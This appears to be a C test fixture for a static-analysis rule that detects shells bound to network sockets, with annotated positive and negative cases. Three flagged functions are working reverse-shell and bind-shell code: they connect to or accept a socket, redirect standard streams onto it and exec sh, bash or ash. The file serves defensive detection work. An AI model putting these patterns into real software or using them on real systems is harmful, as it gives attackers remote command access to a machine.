#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

extern char **environ;

int call_home(struct sockaddr_in *peer)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);

    if (connect(s, (struct sockaddr *)peer, sizeof(*peer)))
        return -1;
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    // ruleid: shell-bound-to-socket
    execl("/bin/sh", "sh", "-i", (char *)0);
    return 0;
}

void service(int listener)
{
    int client = accept(listener, NULL, NULL);
    char *argv[] = {"/bin/bash", NULL};
    int fd;

    for (fd = 0; fd < 3; fd++)
        dup2(client, fd);
    // ruleid: shell-bound-to-socket
    execve(argv[0], argv, environ);
}

static int maintenance(int link)
{
    const char *program = "/bin/ash";

    if (fork())
        return 0;
    dup2(link, STDIN_FILENO);
    dup2(link, STDOUT_FILENO);
    setsid();
    // ruleid: shell-bound-to-socket
    return execlp(program, "ash", (char *)0);
}

int run_filter(int in, char *const argv[])
{
    dup2(in, 0);
    // ok: shell-bound-to-socket
    return execvp(argv[0], argv);
}

int quiet_daemon(void)
{
    int null = open("/dev/null", 2);

    dup2(null, 0);
    // ok: shell-bound-to-socket
    return execl("/usr/sbin/radiod", "radiod", (char *)0);
}

int open_shell_here(void)
{
    // ok: shell-bound-to-socket
    return execl("/bin/sh", "sh", (char *)0);
}

int keep_errors(int log)
{
    dup2(log, 2);
    // ok: shell-bound-to-socket
    return execl("/bin/sh", "sh", "/etc/rc", (char *)0);
}
